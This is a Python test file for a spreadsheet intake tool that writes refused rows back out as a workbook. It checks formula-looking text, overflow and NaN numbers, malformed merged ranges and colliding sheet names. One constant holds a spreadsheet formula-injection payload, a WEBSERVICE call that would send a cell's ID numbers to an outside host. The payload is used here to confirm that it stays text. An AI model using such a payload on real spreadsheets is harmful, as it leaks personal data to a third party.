"""The workbook of refused rows: what came as text goes back as text."""

import zipfile
from io import BytesIO
from pathlib import Path

import pytest
import xlsxwriter  # type: ignore[import-untyped]

from intake.guard import IntakeLimits
from intake.reader import open_list
from intake.refused import FileRefused
from intake.refused_rows import refused_workbook
from tests.intake.hostile import BOOK, BOOK_RELS, OPEN, package
from tests.intake.make import HEADER, household
from tests.intake.reading import TODAY

ASKS = '=WEBSERVICE("http://example.org/?"&D4)'


def test_text_of_a_merged_cell_does_not_become_a_formula(tmp_path: Path) -> None:
    """A title that only looks like a formula would send ID numbers away once it is one."""
    source = tmp_path / "list.xlsx"
    with xlsxwriter.Workbook(str(source)) as book:
        page = book.add_worksheet("名单")
        page.merge_range(0, 0, 0, len(HEADER) - 1, "")
        page.write_string(0, 0, ASKS)
        for at, heading in enumerate(HEADER):
            page.write_string(1, at, heading)
        for at, cell in enumerate(household(1)):
            page.write(2, at, cell)
    made = refused_workbook(source, {("名单", 3): ["身份证号有误"]}, TODAY, IntakeLimits())
    with zipfile.ZipFile(BytesIO(made)) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml").decode()
        texts = packed.read("xl/sharedStrings.xml").decode()
    assert "<mergeCell " in sheet and "WEBSERVICE" in texts
    assert "<f>" not in sheet


def _row(number: int, cells: list[object]) -> str:
    texts = "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in cells)
    return f'<row r="{number}">{texts}</row>'


def _sheet(*more: str, merged: tuple[str, ...] = ()) -> bytes:
    rows = _row(1, list(HEADER)) + _row(2, household(1)) + "".join(more)
    ranges = "".join(f'<mergeCell ref="{one}"/>' for one in merged)
    return OPEN + f"{rows}</sheetData><mergeCells>{ranges}</mergeCells></worksheet>".encode()


def _made(source: Path, *rows: tuple[str, int]) -> dict[str, list[list[object]]]:
    """The refused rows of that list as a spreadsheet program shows them, by sheet."""
    limits = IntakeLimits()
    reasons = {key: ["身份证号有误"] for key in rows}
    made = source.with_name("refused.xlsx")
    made.write_bytes(refused_workbook(source, reasons, TODAY, limits))
    found: dict[str, list[list[object]]] = {}
    with open_list(made) as opened:
        for raw in opened.rows:
            found.setdefault(raw.table.sheet, []).append(raw.cells)
    return found


@pytest.mark.parametrize("figure", ["1e999", "-1e999", "NaN", "inf"])
def test_a_number_that_is_none_is_an_error_value_and_no_failure(
    tmp_path: Path, figure: str
) -> None:
    """The whole import ended with "the program failed": no workbook can hold such a number."""
    row = _row(3, household(2)[:-1]).replace("</row>", f"<c><v>{figure}</v></c></row>")
    source = tmp_path / "list.xlsx"
    package(source, {"xl/worksheets/sheet1.xml": _sheet(row)}).close()
    with open_list(source) as opened:
        assert [raw.cells[6] for raw in opened.rows][1] == "#NUM!"
    assert len(_made(source, ("S", 3))["S"]) == 1


@pytest.mark.parametrize(
    "merged", [("A1:B1", "A1:B1"), ("B1:C1", "A1:B1"), ("A50:A1",), ("XFD1048576:A1",), ("A1",)]
)
def test_merged_cells_written_in_an_odd_way_are_no_failure(
    tmp_path: Path, merged: tuple[str, ...]
) -> None:
    source = tmp_path / "list.xlsx"
    package(source, {"xl/worksheets/sheet1.xml": _sheet(merged=merged)}).close()
    limits = IntakeLimits()
    try:
        with open_list(source, limits=limits):
            pass
    except FileRefused as refused:  # all names of columns are one then: said, and no failure
        assert refused.code in ("column-missing", "list-missing")
        return
    assert len(_made(source, ("S", 2))["S"]) == 1


def test_sheets_whose_names_come_to_one_are_kept_apart(tmp_path: Path) -> None:
    """Names of 31 characters, in capitals or not: a package may say anything."""
    names = ("A[", "A]", "a_", "名" * 40 + "1", "名" * 40 + "2", "'")
    sheets, relations = b"", b""
    parts = {}
    for n, name in enumerate(names, 1):
        sheets += f'<sheet name="{name}" sheetId="{n}" r:id="r{n}"/>'.encode()
        relations += BOOK_RELS[BOOK_RELS.index(b"<Relationship ") : -len(b"</Relationships>")]
        relations = relations.replace(b'"rId1"', b'"r%d"' % n)
        relations = relations.replace(b"sheet1.xml", b"sheet%d.xml" % n) if n > 1 else relations
        row = [household(n)]
        parts[f"xl/worksheets/sheet{n}.xml"] = _sheet(_row(3, row[0]))
    book = BOOK[: BOOK.index(b"<sheet ")] + sheets + b"</sheets></workbook>"
    start = BOOK_RELS[: BOOK_RELS.index(b"<Relationship ")]
    parts |= {"xl/workbook.xml": book}
    parts |= {"xl/_rels/workbook.xml.rels": start + relations + b"</Relationships>"}
    source = tmp_path / "list.xlsx"
    package(source, parts).close()
    found = _made(source, *((name, 3) for name in names))
    assert len(found) == len(names), list(found)
